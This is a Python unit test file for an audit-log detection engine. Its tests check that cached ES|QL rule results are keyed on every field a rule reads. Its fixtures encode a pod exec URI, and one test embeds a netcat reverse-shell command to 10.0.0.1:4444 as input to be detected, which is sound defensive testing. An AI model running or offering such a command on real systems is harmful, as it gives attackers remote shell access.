"""The Detector's memo of ES|QL hits is keyed on every field the rules read, and on nothing less.

A memo keyed on too little (say the request URI alone) would hand one event another event's
columns; these tests change one read field at a time between two events that share everything
else, through one Detector, and expect each event's own answer.
"""

from __future__ import annotations

from typing import Any

from auditstream.detections.engine import Detector
from auditstream.detections.esql.rule import EsqlRule
from auditstream.detections.event.decode import events_from_json
from auditstream.detections.rule_hit import RuleHit
from auditstream.detections.ruleset.languages import compile_rule
from auditstream.detections.ruleset.loader import load_rules
from tests.unit.esql_harness import RULE_TABLE, audit_event

URI = "/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=id&container=c&stdout=1"


def _detector(query: str) -> Detector:
    return Detector([compile_rule({**RULE_TABLE, "query": query}, "<test>")])


def _hits(detector: Detector, event: dict[str, Any]) -> list[RuleHit]:
    (decoded,) = events_from_json(event)
    return detector.detect(decoded)


def test_the_seeds_read_only_the_subresource_and_the_uri() -> None:
    esql = [rule for rule in load_rules().rules if isinstance(rule, EsqlRule)]
    reads = {name for rule in esql for name in rule.query.reads}
    assert reads == {"kubernetes.audit.objectRef.subresource", "kubernetes.audit.requestURI"}


def test_a_field_read_by_a_later_stage_is_part_of_the_key() -> None:
    detector = _detector(
        "FROM logs-kubernetes.audit_logs-* "
        '| WHERE kubernetes.audit.objectRef.subresource == "exec" '
        "| EVAL who = kubernetes.audit.user.username | KEEP who"
    )
    for name in ("alice", "bob", "alice", "mallory"):
        event = audit_event(URI, user={"username": name})
        (hit,) = _hits(detector, event)
        assert hit.fields == {"who": name}


def test_metadata_id_is_part_of_the_key() -> None:
    detector = _detector(
        "FROM logs-kubernetes.audit_logs-* METADATA _id "
        '| WHERE kubernetes.audit.objectRef.subresource == "exec" | EVAL id = _id | KEEP id'
    )
    for stage in ("ResponseStarted", "ResponseComplete", "ResponseStarted"):
        (hit,) = _hits(detector, audit_event(URI, stage=stage))
        assert hit.fields == {"id": f"7e0c3b0e-2d8c-4a53-9d0b-3f7b1f9b6a11:{stage}"}


def test_a_field_read_only_in_a_condition_decides_per_event() -> None:
    detector = _detector(
        "FROM logs-kubernetes.audit_logs-* "
        '| WHERE kubernetes.audit.objectRef.subresource == "exec" '
        'AND kubernetes.audit.verb == "create"'
    )
    outcomes = [
        bool(_hits(detector, audit_event(URI, verb=v))) for v in ("create", "get", "create")
    ]
    assert outcomes == [True, False, True]


def test_equal_events_share_one_evaluation_but_not_one_list() -> None:
    detector = Detector(load_rules().rules)
    uri = URI.replace("command=id", "command=nc+-e+%2Fbin%2Fsh+10.0.0.1+4444")
    first = _hits(detector, audit_event(uri))
    second = _hits(detector, audit_event(uri))
    assert first == second and first
    assert first is not second
